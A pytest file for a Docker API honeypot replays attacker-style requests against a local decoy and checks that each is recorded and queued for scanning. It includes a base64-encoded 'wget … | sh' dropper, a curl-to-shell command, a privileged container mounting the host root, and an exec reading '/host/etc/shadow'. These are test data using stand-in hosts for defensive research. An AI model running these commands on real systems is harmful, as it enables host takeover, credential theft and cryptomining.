"""Attack sequences against a real `detonate honeypot`, sent as attacker tools send them: raw
HTTP/1.1 with `/v1.41/` prefixes (what `curl -X POST http://host:2375/v1.41/…` puts on the
wire), and the `docker` Python SDK as a second real client. All names are harmless: `.test`
domains, documentation addresses, base images with a re-enacted command."""

from __future__ import annotations

import base64
import http.client
import json
import os
import re
import shlex
import signal
import ssl
import subprocess
import sys
import time
from datetime import timedelta
from typing import Any

import docker
import pytest
from sqlalchemy import select
from sqlalchemy.orm import Session

from detonate.honeypot.deployments import profile_of
from detonate.store import Source, Store
from detonate.store.honeypot_models import HoneypotRequest

from .conftest import LiveHoneypot

PAYLOAD = "wget -qO- http://dropper.test/x.sh | sh; echo 4FAKEWALLET > /tmp/.w"
B64 = base64.b64encode(PAYLOAD.encode()).decode()
COMMAND = ["sh", "-c", f"echo {B64} | base64 -d | sh"]


def call(
    live: LiveHoneypot,
    method: str,
    path: str,
    body: Any = None,
    headers: dict[str, str] | None = None,
) -> tuple[int, dict[str, str], bytes]:
    connection = http.client.HTTPConnection("127.0.0.1", live.port, timeout=10)
    data = json.dumps(body).encode() if body is not None and not isinstance(body, bytes) else body
    sent = {"User-Agent": "curl/7.88.1", "Accept": "*/*"}
    if data is not None:
        sent["Content-Type"] = "application/json"
    connection.request(method, path, body=data, headers={**sent, **(headers or {})})
    response = connection.getresponse()
    payload = response.read()
    connection.close()
    return response.status, {k.lower(): v for k, v in response.getheaders()}, payload


def test_ping_answers_like_an_engine_with_its_headers(start_honeypot):
    live = start_honeypot()
    for method in ("GET", "HEAD"):
        status, headers, body = call(live, method, "/_ping")
        assert status == 200
        assert headers["api-version"] == "1.45"
        assert headers["docker-experimental"] == "false"
        assert headers["ostype"] == "linux"
        assert headers["server"].startswith("Docker/")
        assert body == (b"OK" if method == "GET" else b"")
    status, _, body = call(live, "GET", "/v1.41/version")
    version = json.loads(body)
    assert status == 200 and version["ApiVersion"] == "1.45" and version["Os"] == "linux"
    status, _, body = call(live, "GET", "/v1.24/info")
    assert status == 200 and json.loads(body)["OSType"] == "linux"


def test_a_privileged_base64_deployment_is_recorded_whole_and_queued_as_run(start_honeypot):
    live = start_honeypot()
    status, headers, body = call(live, "POST", "/v1.41/images/create?fromImage=alpine&tag=3.19")
    assert status == 200 and headers["transfer-encoding"] == "chunked"
    progress = [json.loads(line) for line in body.splitlines() if line.strip()]
    assert progress[-1]["status"] == "Status: Downloaded newer image for alpine:3.19"

    create = {
        "Image": "alpine:3.19",
        "Cmd": COMMAND,
        "Env": ["POOL=pool.test:3333"],
        "User": "root",
        "HostConfig": {"Privileged": True, "Binds": ["/:/host"], "PidMode": "host"},
    }
    status, _, body = call(live, "POST", "/v1.41/containers/create?name=xmr", create)
    assert status == 201
    container_id = json.loads(body)["Id"]
    assert len(container_id) == 64

    # consistent state: the name finds the container, start makes it running, list shows it
    assert call(live, "POST", "/v1.41/containers/xmr/start")[0] == 204
    status, _, body = call(live, "GET", f"/v1.41/containers/{container_id[:12]}/json")
    inspected = json.loads(body)
    assert inspected["State"]["Running"] is True and inspected["Name"] == "/xmr"
    assert inspected["HostConfig"]["Privileged"] is True
    listed = json.loads(call(live, "GET", "/v1.41/containers/json")[2])
    assert [c["Id"] for c in listed] == [container_id]
    status, _, body = call(
        live, "POST", f"/v1.41/containers/{container_id}/exec", {"Cmd": ["cat", "/host/etc/shadow"]}
    )
    exec_id = json.loads(body)["Id"]
    assert call(live, "POST", f"/v1.41/exec/{exec_id}/start", {"Detach": False})[0] == 200
    assert call(live, "GET", f"/v1.41/containers/{container_id}/logs?stdout=1")[0] == 200
    status, _, body = call(live, "DELETE", f"/v1.41/containers/{container_id}")
    assert status == 409 and "cannot remove a running container" in json.loads(body)["message"]
    assert call(live, "DELETE", f"/v1.41/containers/{container_id}?force=1")[0] == 204
    status, _, body = call(live, "GET", f"/v1.41/containers/{container_id}/json")
    assert status == 404 and json.loads(body)["message"] == f"No such container: {container_id}"

    # every request recorded whole: address, port, version, headers, body
    requests = live.requests()
    assert [r.operation for r in requests] == [
        "image.pull",
        "container.create",
        "container.start",
        "container.inspect",
        "container.list",
        "exec.create",
        "exec.start",
        "container.logs",
        "container.delete",
        "container.delete",
        "container.inspect",
    ]
    created = requests[1]
    assert created.method == "POST" and created.path == "/v1.41/containers/create"
    assert created.query == "name=xmr" and created.api_version == "1.41"
    assert json.loads(created.body) == create and not created.body_truncated
    assert ["User-Agent", "curl/7.88.1"] in json.loads(created.headers_json)
    assert created.source_port > 0 and created.local_port == live.port
    assert len({r.session_id for r in requests}) == 1  # one source, one window: one session

    # the deployment: the attacker's command as the scan's profile, escape intent, decoded blob
    deployments = live.deployments()
    assert [d.kind for d in deployments] == ["create", "exec"]
    config = json.loads(deployments[0].config_json)
    assert config["cmd"] == COMMAND and config["env"] == ["POOL=pool.test:3333"]
    assert config["binds"] == ["/:/host"] and config["privileged"] is True
    assert json.loads(deployments[0].escape_intent_json) == [
        "privileged",
        "host-pid",
        "host-mount:/",
    ]
    assert json.loads(deployments[0].decoded_json) == [PAYLOAD]
    evidence = live.evidence(requests[0].session_id)
    assert {"kind": "decoded-base64", "text": PAYLOAD} in evidence
    assert {"kind": "escape-intent", "text": "privileged"} in evidence

    scan = live.store.get_scan(deployments[0].scan_id)
    assert scan is not None
    assert scan.source is Source.HONEYPOT and scan.status.value == "queued"
    assert scan.reference == "docker://alpine:3.19"
    assert scan.profile == deployments[0].profile and scan.profile.startswith("hp-")
    exec_scan = live.store.get_scan(deployments[1].scan_id)
    assert exec_scan is not None and exec_scan.id != scan.id
    assert json.loads(deployments[1].config_json)["cmd"] == ["cat", "/host/etc/shadow"]


def test_the_same_clean_image_with_another_command_is_another_scan(start_honeypot):
    live = start_honeypot()
    call(live, "POST", "/v1.41/images/create?fromImage=alpine:3.19")
    for cmd in (COMMAND, ["sleep", "1"], COMMAND):
        call(live, "POST", "/v1.41/containers/create", {"Image": "alpine:3.19", "Cmd": cmd})
    deployments = live.deployments()
    scan_ids = [d.scan_id for d in deployments]
    assert scan_ids[0] == scan_ids[2] != scan_ids[1]  # a repeat is the same scan, not a new one
    assert len(live.store.list_scans()) == 2


def test_create_of_an_image_never_pulled_gets_the_engines_404(start_honeypot):
    live = start_honeypot()
    status, _, body = call(live, "POST", "/v1.41/containers/create", {"Image": "miner.test/x:1"})
    assert status == 404
    assert json.loads(body) == {"message": "No such image: miner.test/x:1"}
    assert live.deployments() == []


def test_state_is_kept_per_source(start_honeypot):
    live = start_honeypot()
    call(live, "POST", "/v1.41/images/create?fromImage=busybox&tag=1.36")
    images = json.loads(call(live, "GET", "/v1.41/images/json")[2])
    assert "busybox:1.36" in [tag for image in images for tag in image["RepoTags"]]
    volume = json.loads(call(live, "POST", "/v1.41/volumes/create", {"Name": "data"})[2])
    assert volume["Name"] == "data"
    assert [v["Name"] for v in json.loads(call(live, "GET", "/v1.41/volumes")[2])["Volumes"]] == [
        "data"
    ]
    assert {n["Name"] for n in json.loads(call(live, "GET", "/v1.41/networks")[2])} == {
        "bridge",
        "host",
        "none",
    }
    status, _, body = call(live, "GET", "/v1.41/swarm")
    assert status == 503 and "not a swarm manager" in json.loads(body)["message"]


def test_docker_sdk_drives_a_whole_deployment(start_honeypot):
    live = start_honeypot()
    client = docker.DockerClient(
        base_url=f"tcp://127.0.0.1:{live.port}", version="1.41", timeout=10
    )
    try:
        assert client.ping() is True
        assert client.version()["ApiVersion"] == "1.45"
        image = client.images.pull("busybox", tag="1.36")
        assert "busybox:1.36" in image.tags
        container = client.containers.create(
            "busybox:1.36",
            command=COMMAND,
            environment={"WALLET": "4FAKEWALLET"},
            privileged=True,
            volumes={"/": {"bind": "/host", "mode": "rw"}},
            network_mode="host",
            name="worker",
        )
        assert container.status == "created" and container.name == "worker"
        container.start()
        container.reload()
        assert container.status == "running"
        result = container.exec_run(["sh", "-c", "id"])
        assert result.exit_code == 0 and result.output == b""
        assert container.logs() == b""
        assert [c.name for c in client.containers.list()] == ["worker"]
        container.remove(force=True)
        assert client.containers.list(all=True) == []
    finally:
        client.close()

    deployment = live.deployments()[0]
    config = json.loads(deployment.config_json)
    assert config["cmd"] == COMMAND and config["env"] == ["WALLET=4FAKEWALLET"]
    assert config["binds"] == ["/:/host:rw"] and config["network_mode"] == "host"
    assert json.loads(deployment.decoded_json) == [PAYLOAD]
    assert deployment.profile == profile_of_config(deployment.image, config)
    scan = live.store.get_scan(deployment.scan_id)
    assert scan is not None and scan.source is Source.HONEYPOT
    user_agents = {
        value
        for r in live.requests()
        for key, value in json.loads(r.headers_json)
        if key.lower() == "user-agent"
    }
    assert any(agent.startswith("docker-sdk-python") for agent in user_agents)


def profile_of_config(image: str, config: dict[str, Any]) -> str:
    from detonate.honeypot.daemon import Deployment

    return profile_of(
        Deployment(
            kind="create",
            container_id="",
            image=image,
            entrypoint=tuple(config["entrypoint"]) if config["entrypoint"] is not None else None,
            cmd=tuple(config["cmd"]),
            env=tuple(config["env"]),
            user=config["user"],
            binds=tuple(config["binds"]),
            privileged=False,
            pid_mode="",
            network_mode="",
            cap_add=(),
        )
    )


def test_tls_port_answers_the_same_api(start_honeypot):
    live = start_honeypot(tls=True)
    assert live.tls_port is not None
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    connection = http.client.HTTPSConnection(
        "127.0.0.1", live.tls_port, timeout=10, context=context
    )
    connection.request("GET", "/v1.41/version")
    response = connection.getresponse()
    assert response.status == 200 and json.loads(response.read())["ApiVersion"] == "1.45"
    connection.close()
    assert live.requests()[0].local_port == live.tls_port


def test_sessions_split_by_source_and_window(start_honeypot):
    live = start_honeypot(session_window_seconds=0.0)
    call(live, "GET", "/_ping")
    call(live, "GET", "/_ping")
    # a window of zero: every request after silence is a new session of the same source
    sessions = live.sessions()
    assert len(sessions) == 2 and {s.source_ip for s in sessions} == {"127.0.0.1"}
    assert all(s.country == "" for s in sessions)  # loopback has no country


@pytest.mark.parametrize("sequence", [["/_ping", "/v1.41/version", "/v1.41/info"]])
def test_reconnaissance_is_a_session_without_an_attack(start_honeypot, sequence):
    live = start_honeypot()
    for path in sequence:
        assert call(live, "GET", path)[0] == 200
    assert live.deployments() == []
    assert [s.requests for s in live.sessions()] == [len(sequence)]


def test_shell_quoted_command_survives_recording(start_honeypot):
    live = start_honeypot()
    call(live, "POST", "/v1.41/images/create?fromImage=alpine&tag=latest")
    command = shlex.split("sh -c 'curl -s http://198.51.100.7/m | sh'")
    call(live, "POST", "/v1.41/containers/create", {"Image": "alpine", "Cmd": command})
    assert json.loads(live.deployments()[0].config_json)["cmd"] == command
    assert live.deployments()[0].image == "alpine:latest"


def test_sessions_and_deployments_on_a_real_postgresql(start_honeypot, postgres_server):
    from detonate.intel.figures import gather

    live = start_honeypot(store=Store.open(postgres_server.new_database()))
    call(live, "POST", "/v1.41/images/create?fromImage=alpine&tag=3.19")
    create = {"Image": "alpine:3.19", "Cmd": COMMAND, "HostConfig": {"Privileged": True}}
    assert call(live, "POST", "/v1.41/containers/create", create)[0] == 201
    (deployment,) = live.deployments()
    assert json.loads(deployment.decoded_json) == [PAYLOAD]
    scan = live.store.get_scan(deployment.scan_id)
    assert scan is not None and scan.source is Source.HONEYPOT
    assert live.store.dialect == "postgresql"
    session = live.sessions()[0]
    figures = gather(live.store, session.first_seen, session.last_seen + timedelta(seconds=1))
    assert figures["totals"]["attacks"] == 1 and figures["totals"]["scans"] == 1


@pytest.mark.parametrize(
    ("stop", "sigint"),
    [
        (signal.SIGINT, signal.SIG_DFL),
        (signal.SIGTERM, signal.SIG_DFL),
        (signal.SIGINT, signal.SIG_IGN),
    ],
    ids=["ctrl-c", "sigterm", "ctrl-c-started-ignored"],
)
def test_the_cli_serves_records_and_stops_cleanly(tmp_path, stop, sigint):
    """Stopped as a terminal, systemd or Kubernetes stops it, or from a background job that
    started it with SIGINT ignored: exit 0, and what it answered is in the store."""
    db = f"sqlite:///{tmp_path / 'cli.db'}"
    process = subprocess.Popen(
        [sys.executable, "-m", "detonate", "honeypot", "--db", db, "--ports", "0", "--name", "cli"],
        stderr=subprocess.PIPE,
        text=True,
        env={**os.environ, "PYTHONUNBUFFERED": "1"},
        preexec_fn=lambda: signal.signal(signal.SIGINT, sigint),
    )
    try:
        assert process.stderr is not None
        line = process.stderr.readline()  # "… listening on 127.0.0.1:PORT"
        match = re.search(r"listening on 127\.0\.0\.1:(\d+)$", line.strip())
        assert match, line
        port = int(match.group(1))
        connection = http.client.HTTPConnection("127.0.0.1", port, timeout=10)
        connection.request("GET", "/v1.41/version", headers={"User-Agent": "Go-http-client/1.1"})
        assert json.loads(connection.getresponse().read())["ApiVersion"] == "1.45"
        connection.close()
        process.send_signal(stop)
        assert process.wait(timeout=30) == 0
    finally:
        if process.poll() is None:
            process.kill()
            process.wait()
    store = Store.open(db)
    try:
        with Session(store.engine) as session:
            paths = list(session.scalars(select(HoneypotRequest.path)))
        assert paths == ["/v1.41/version"]  # recorded before the process exited
    finally:
        store.close()


def test_a_new_session_finds_a_fresh_host(start_honeypot):
    live = start_honeypot(session_window_seconds=1.0)
    call(live, "POST", "/v1.41/images/create?fromImage=alpine&tag=3.19")
    call(live, "POST", "/v1.41/containers/create?name=a", {"Image": "alpine:3.19"})
    listed = json.loads(call(live, "GET", "/v1.41/containers/json?all=1")[2])
    assert [c["Names"] for c in listed] == [["/a"]]
    time.sleep(1.5)  # silent longer than the window: the next request starts a new session
    assert json.loads(call(live, "GET", "/v1.41/containers/json?all=1")[2]) == []
    assert len(live.sessions()) == 2


def test_unnamed_creates_never_collide_on_a_generated_name(start_honeypot):
    live = start_honeypot(requests_per_second=1e6, burst=10**6)
    call(live, "POST", "/v1.41/images/create?fromImage=alpine&tag=3.19")
    # 81 plain adjective_scientist names: 120 containers need the engine's digit suffix
    for _ in range(120):
        status, _, body = call(live, "POST", "/v1.41/containers/create", {"Image": "alpine:3.19"})
        assert status == 201, body
    listed = json.loads(call(live, "GET", "/v1.41/containers/json?all=1")[2])
    names = [c["Names"][0] for c in listed]
    assert len(names) == len(set(names)) == 120
